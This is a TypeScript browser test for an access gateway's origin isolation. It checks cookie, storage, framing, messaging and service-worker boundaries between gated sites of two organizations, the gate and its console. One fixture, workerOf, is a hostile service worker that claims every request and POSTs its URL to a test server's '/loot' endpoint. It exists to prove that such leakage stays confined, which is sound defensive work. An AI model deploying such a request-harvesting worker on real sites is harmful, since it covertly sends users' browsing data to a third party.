/**
 * The model of web origins that the gate relies on, driven in a browser: gated hosts of one organization and of another,
 * the gate's own host, and the console. The table is what docs/gateway.md says in words; a browser that begins to differ,
 * or a header of ours that is lost, shows as a line of it.
 */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { eventually } from '../support/installation.ts'
import { type Browser, startBrowser, withoutChromium } from './support/chromium.ts'
import { consoleUrlOf, signIn } from './support/console.ts'
import { acceptInvitation, enter, type Gate, type GatedSite, startGate } from './support/gate.ts'
import { PROBES, type WebOrigin } from './support/web-origin-probes.ts'

type Name = 'shop' | 'wiki' | 'bank' | 'gate' | 'console'

/** Who tries, and on whom: `shop` and `wiki` are of one organization, `bank` is of another. */
const RELATIONS: readonly (readonly [Name, Name])[] = [
  ['shop', 'shop'],
  ['shop', 'wiki'],
  ['shop', 'bank'],
  ['shop', 'gate'],
  ['shop', 'console'],
  ['gate', 'shop'],
  ['gate', 'console'],
  ['console', 'shop'],
  ['console', 'gate'],
]

/** Rows: what the first can do to the second. */
const TABLE = `
                                                   | shop itself | shop > wiki | shop > bank | shop > gate | shop > console | gate > shop | gate > console | console > shop | console > gate
reads its answers                                  | yes         | –           | –           | –           | –              | –           | –              | –              | –
runs its scripts                                   | yes         | yes         | yes         | –           | yes            | –           | –              | –              | –
frames its pages                                   | yes         | yes         | yes         | –           | –              | –           | –              | –              | –
holds a window that it opens there                 | yes         | yes         | yes         | –           | –              | –           | –              | –              | –
scripts that window                                | yes         | –           | –           | –           | –              | –           | –              | –              | –
sends it messages                                  | yes         | yes         | yes         | –           | –              | –           | –              | –              | –
is known to it as its opener                       | yes         | yes         | yes         | –           | –              | –           | –              | –              | –
hands on window.name                               | yes         | yes         | yes         | –           | –              | –           | –              | –              | –
hands on more of its address than its origin       | yes         | –           | –           | –           | –              | –           | –              | –              | –
sets a cookie that it gets                         | yes         | –           | –           | –           | –              | –           | –              | –              | –
sets a cookie of the parent domain that it gets    | yes         | yes         | yes         | yes         | –              | yes         | –              | –              | –
sets a __Host- or __Host-Http- cookie that it gets | –           | –           | –           | –           | –              | –           | –              | –              | –
writes its localStorage                            | yes         | –           | –           | –           | –              | –           | –              | –              | –
writes its IndexedDB                               | yes         | –           | –           | –           | –              | –           | –              | –              | –
writes its Cache storage                           | yes         | –           | –           | –           | –              | –           | –              | –              | –
is heard on its BroadcastChannel                   | yes         | –           | –           | –           | –              | –           | –              | –              | –
`

test('who can read and write what, between gated hosts, the gate and the console', {
  skip: withoutChromium,
}, async (t) => {
  let gate: Gate
  let browser: Browser
  let origins: Readonly<Record<Name, WebOrigin>>
  before(async () => {
    gate = await startGate()
    browser = await startBrowser()
    origins = await openOrigins(gate, browser)
  })
  after(async () => {
    await browser.close()
    await gate.close()
  })

  await t.test('is what the table says', async () => {
    const rows = new Map<string, string[]>()
    for (const [from, to] of RELATIONS)
      for (const probe of PROBES)
        for (const [what, holds] of Object.entries(await probe(origins[from], origins[to])))
          rows.set(what, [...(rows.get(what) ?? []), holds ? 'yes' : '–'])
    const table = tableOf(rows)
    t.diagnostic(table)
    assert.equal(table, TABLE)
  })

  await t.test('the page of the gate listens to no other window', async () => {
    const debug = await browser.context.newCDPSession(origins.gate.page)
    const { result } = await debug.send('Runtime.evaluate', { expression: 'window' })
    const { listeners } = await debug.send('DOMDebugger.getEventListeners', {
      objectId: result.objectId ?? '',
    })
    const foreign = listeners.filter(({ type }) => /message|storage|connect/.test(type))
    assert.deepEqual(foreign, [])
    assert.ok(listeners.length > 0, 'the listeners were asked for')
  })

  await t.test('a service worker sees the requests of its own host alone', async () => {
    gate.origin.serve('/worker.js', { type: 'text/javascript', body: workerOf(gate) })
    await origins.shop.page.evaluate(async () => {
      await navigator.serviceWorker.register('/worker.js', { scope: '/' })
      await navigator.serviceWorker.ready
    })
    const { shop } = gate
    await origins.gate.page.evaluate(
      (url) => fetch(url, { credentials: 'include' }).catch(() => undefined),
      `${shop.url}/.sallyport/nonce`,
    )
    for (const { page, url } of Object.values(origins)) await page.goto(url)
    await origins.shop.page.evaluate(() => fetch('/last'))
    await eventually(() => gate.origin.loot.includes(`${shop.url}/last`))
    const foreign = gate.origin.loot.filter((url) => !url.startsWith(`${shop.url}/`))
    assert.deepEqual(foreign, [])
    assert.ok(!gate.origin.loot.includes(`${shop.url}/.sallyport/nonce`))
  })
})

async function openOrigins(gate: Gate, browser: Browser): Promise<Readonly<Record<Name, WebOrigin>>> {
  const { installation } = gate
  gate.origin.serve('/script.js', { type: 'text/javascript', body: '' })
  const consolePage = await browser.open()
  const consoleUrl = consoleUrlOf(installation)
  await consolePage.goto(consoleUrl)
  await signIn(consolePage, installation)
  const page = await browser.open()
  const gated = async (site: GatedSite): Promise<WebOrigin> => {
    const own = await browser.open()
    const url = `${site.url}/a-path`
    await enter(own, url)
    return { page: own, url, script: `${site.url}/script.js`, landmark: (any) => any.getByText('Hello') }
  }
  // Somebody of the other organization first: their session at its site stays when Mira takes their place at the gate.
  const ada = await gate.invite('Ada', gate.otherApiKey)
  await acceptInvitation(page, ada.invitation)
  const bank = await gated(gate.bank)
  const mira = await gate.invite('Mira')
  await page.goto(mira.invitation)
  await page.getByRole('button', { name: 'Accept' }).click()
  await page.getByRole('button', { name: 'Replace that session' }).click()
  await page.getByText('mira@example.com').waitFor()
  const scriptOf = (of: typeof page) =>
    of.evaluate(() => document.querySelector<HTMLScriptElement>('script[src]')?.src ?? '')
  return {
    shop: await gated(gate.shop),
    wiki: await gated(gate.wiki),
    bank,
    gate: {
      page,
      url: `${gate.url}/`,
      script: await scriptOf(page),
      landmark: (any) => any.getByRole('heading', { name: 'Your sites' }),
    },
    console: {
      page: consolePage,
      url: consoleUrl,
      script: await scriptOf(consolePage),
      landmark: (any) => any.getByRole('navigation', { name: 'Areas' }),
    },
  }
}

/** Brings home the address of every request that it sees. */
const workerOf = (gate: Gate): string => `
addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('fetch', (event) => {
  event.waitUntil(fetch('${gate.origin.url}/loot', { method: 'POST', mode: 'no-cors', body: event.request.url }))
})`

function tableOf(rows: ReadonlyMap<string, readonly string[]>): string {
  const head = RELATIONS.map(([from, to]) => (from === to ? `${from} itself` : `${from} > ${to}`))
  const widthMax = Math.max(...[...rows.keys()].map((what) => what.length))
  const lines = [...rows].map(
    ([what, cells]) =>
      `${what.padEnd(widthMax)} | ${cells.map((cell, at) => cell.padEnd(head[at]?.length ?? 0)).join(' | ')}`,
  )
  return `\n${[`${''.padEnd(widthMax)} | ${head.join(' | ')}`, ...lines].map((line) => line.trimEnd()).join('\n')}\n`
}
